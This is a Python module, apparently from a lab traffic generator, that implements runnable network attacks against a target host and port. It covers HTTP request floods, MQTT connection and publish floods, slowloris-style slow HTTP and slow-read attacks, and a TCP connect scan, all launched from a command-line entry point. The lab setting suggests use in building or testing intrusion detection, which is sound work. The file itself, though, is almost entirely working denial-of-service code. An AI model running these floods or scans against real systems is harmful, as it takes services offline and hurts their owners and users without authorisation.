"""Floods, scans and slow attacks made with real sockets: HTTP and MQTT servers see whole connections."""

from __future__ import annotations

import asyncio
import contextlib
import socket
import time
from random import Random

from wirespeak.lab.attacks.start import Pace, start
from wirespeak.lab.devices.device import MISHAPS
from wirespeak.lab.devices.mqtt import MqttClient

_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    "Mozilla/5.0 (X11; Linux x86_64; rv:91.0)",
    "curl/7.88.1",
    "python-requests/2.28",
    "Opera/9.80",
)


async def http_flood(
    *,
    target: str,
    port: int,
    rate: float,
    workers: int,
    post: bool,
    keep: bool,
    page: str,
    seconds: float,
    seed: int,
) -> None:
    """Requests at `rate` from `workers` connections, each kept or made anew. Page "": another one each time."""
    random, pace, end = Random(seed), Pace(rate), time.monotonic() + seconds

    def request() -> bytes:
        path = page or f"/?{random.getrandbits(40):x}={random.getrandbits(40):x}"
        body = random.randbytes(random.randint(20, 400)).hex().encode() if post else b""
        head = f"{'POST' if post else 'GET'} {path} HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {random.choice(_AGENTS)}\r\nAccept: */*\r\nConnection: {'keep-alive' if keep else 'close'}\r\n"
        return (head + (f"Content-Length: {len(body)}\r\n" if post else "") + "\r\n").encode() + body

    async def work() -> None:
        while time.monotonic() < end:
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(target, port), 3)
                for _ in range(random.randint(20, 80) if keep else 1):
                    await asyncio.sleep(pace.wait_s())
                    writer.write(request())
                    await asyncio.wait_for(reader.read(8192), 3)
                    if time.monotonic() > end:
                        break
                writer.close()
            except MISHAPS:
                await asyncio.sleep(0.05)

    await asyncio.gather(*(work() for _ in range(workers)))


async def mqtt_connect_flood(
    *,
    target: str,
    port: int,
    rate: float,
    seconds: float,
    password: str,
    politely: bool,
    seed: int,
    subscriptions: int = 0,
) -> None:
    """Connections under ever new names, logged in or turned away, with subscriptions or without."""
    random, pace, end = Random(seed), Pace(rate), time.monotonic() + seconds
    busy: set[asyncio.Task[None]] = set()

    async def one() -> None:
        try:
            client, code = await MqttClient.connect(
                target,
                port,
                f"{random.getrandbits(64):x}",
                user="bulb" if password else "",
                password=password,
            )
            if not code:
                for number in range(subscriptions):
                    await client.subscribe(random.choice(("#", "+/+/state", f"t/{number}/#", "$SYS/#")))
                if subscriptions:
                    await asyncio.sleep(random.uniform(0.1, 0.6))
            await client.close(politely=politely)
        except MISHAPS:
            pass

    while time.monotonic() < end:
        if len(busy) < 100:
            task = asyncio.create_task(one())
            busy.add(task)
            task.add_done_callback(busy.discard)
        await asyncio.sleep(pace.wait_s())


async def mqtt_publish_flood(
    *,
    target: str,
    port: int,
    rate: float,
    size: int,
    qos: int,
    clients: int,
    per_connection: int,
    seconds: float,
    password: str,
    seed: int,
) -> None:
    """Messages at `rate` in all, from `clients` connections that each send `per_connection` and come again."""
    random, pace, end = Random(seed), Pace(rate), time.monotonic() + seconds

    async def work() -> None:
        while time.monotonic() < end:
            try:
                client, _ = await MqttClient.connect(
                    target, port, f"{random.getrandbits(64):x}", user="bulb", password=password
                )
                listener = asyncio.create_task(client.listen())
                for _ in range(random.randint(per_connection // 2 + 1, per_connection)):
                    await client.publish(f"flood/{random.randint(0, 99)}", random.randbytes(size), qos=qos)
                    await asyncio.sleep(pace.wait_s())
                    if time.monotonic() > end or listener.done():
                        break
                listener.cancel()
                await asyncio.gather(listener, return_exceptions=True)
                await client.close(politely=False)
            except MISHAPS:
                await asyncio.sleep(0.05)

    await asyncio.gather(*(work() for _ in range(clients)))


async def slow_http(
    *,
    target: str,
    port: int,
    connections: int,
    interval: float,
    body: bool,
    chunked: bool = False,
    seconds: float,
    seed: int,
) -> None:
    """Hold many connections with requests that grow by a few bytes and never end."""
    random, end = Random(seed), time.monotonic() + seconds

    async def hold() -> None:
        await asyncio.sleep(random.uniform(0, min(seconds / 3, connections / 30)))
        while time.monotonic() < end:
            try:
                _, writer = await asyncio.wait_for(asyncio.open_connection(target, port), 5)
                verb, extra = ("POST" if body or chunked else "GET"), ""
                if body:
                    extra = f"Content-Length: {random.randint(4000, 90000)}\r\n\r\n"
                elif chunked:
                    extra = "Transfer-Encoding: chunked\r\n\r\n"
                writer.write(
                    f"{verb} /{random.getrandbits(20):x} HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {random.choice(_AGENTS)}\r\n{extra}".encode()
                )
                while time.monotonic() < end:
                    await asyncio.sleep(interval * random.uniform(0.7, 1.3))
                    piece = random.randbytes(random.randint(1, 4)).hex()
                    line = f"X-{random.getrandbits(16):x}: {random.getrandbits(12)}\r\n"
                    chunk = f"{len(piece):x}\r\n{piece}\r\n"
                    writer.write((piece if body else chunk if chunked else line).encode())
                    await writer.drain()
                writer.close()
            except MISHAPS:
                await asyncio.sleep(1)

    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(asyncio.gather(*(hold() for _ in range(connections))), seconds)


async def slow_read(
    *, target: str, port: int, connections: int, interval: float, seconds: float, seed: int
) -> None:
    """Ask for pages on many connections and take the answers a few bytes at a time, with a tiny window."""
    random, end, loop = Random(seed), time.monotonic() + seconds, asyncio.get_running_loop()

    async def sip() -> None:
        await asyncio.sleep(random.uniform(0, min(seconds / 3, connections / 30)))
        while time.monotonic() < end:
            with socket.socket() as opened, contextlib.suppress(*MISHAPS):
                opened.setblocking(False)
                opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, random.choice((512, 1024, 2048)))
                await asyncio.wait_for(loop.sock_connect(opened, (target, port)), 5)
                paths = random.choices(
                    ("/", "/style.css", "/icon.png", "/snapshot.jpg"), k=random.randint(1, 6)
                )
                lines = (
                    f"GET {path} HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {random.choice(_AGENTS)}\r\n\r\n"
                    for path in paths
                )
                await loop.sock_sendall(opened, "".join(lines).encode())
                while time.monotonic() < end and await loop.sock_recv(opened, random.randint(4, 64)):
                    await asyncio.sleep(interval * random.uniform(0.7, 1.3))
            await asyncio.sleep(1)

    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(asyncio.gather(*(sip() for _ in range(connections))), seconds)


async def connect_scan(
    *, targets: list[str], ports: list[int], rate: float, shuffled: bool, seed: int
) -> None:
    """A connection to each port of each target, closed as soon as it opens."""
    pairs = [(target, port) for target in targets for port in ports]
    if shuffled:
        Random(seed).shuffle(pairs)
    pace, gate = Pace(rate), asyncio.Semaphore(200)

    async def one(target: str, port: int) -> None:
        async with gate:
            try:
                _, writer = await asyncio.wait_for(asyncio.open_connection(target, port), 2)
                writer.close()
            except MISHAPS:
                pass

    tasks = []
    for target, port in pairs:
        tasks.append(asyncio.create_task(one(target, port)))
        await asyncio.sleep(pace.wait_s())
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    start(http_flood, mqtt_connect_flood, mqtt_publish_flood, slow_http, slow_read, connect_scan)
